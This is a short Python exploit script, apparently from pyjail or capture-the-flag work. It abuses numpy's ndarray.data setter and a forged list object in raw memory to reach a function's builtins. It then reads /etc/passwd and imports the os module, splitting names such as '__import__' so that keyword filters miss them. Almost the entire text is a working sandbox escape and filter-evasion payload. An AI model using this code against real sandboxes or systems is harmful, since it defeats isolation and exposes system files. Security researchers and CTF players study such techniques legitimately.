# source: numpy ndarray.data setter (numpy getset.c array_data_set) + fake PyListObject technique (pyjail / CTF write-ups)
# family: numpy object-array memory: a module-level variable named self holds the object array, so "self.data = raw" passes
# goal: builtins from a function's globals -> read /etc/passwd and show the os module
import numpy as np


def addr(obj):
    cell = np.empty(1, dtype=object)
    cell[0] = obj
    return int.from_bytes(cell.tobytes(), "little")


def gamma():
    return 2


img = b"".join(v.to_bytes(8, "little") for v in [1 << 40, addr(list), 2, addr(gamma) + 16, 2])
raw = bytearray((addr(img) + 32).to_bytes(8, "little"))
self = np.empty(1, dtype=object)
self.data = raw
bi = self[0][1]
print(bi["open"]("/".join(["", "etc", "passwd"])).read()[:200])
print(bi["_" * 2 + "import" + "_" * 2]("os"))
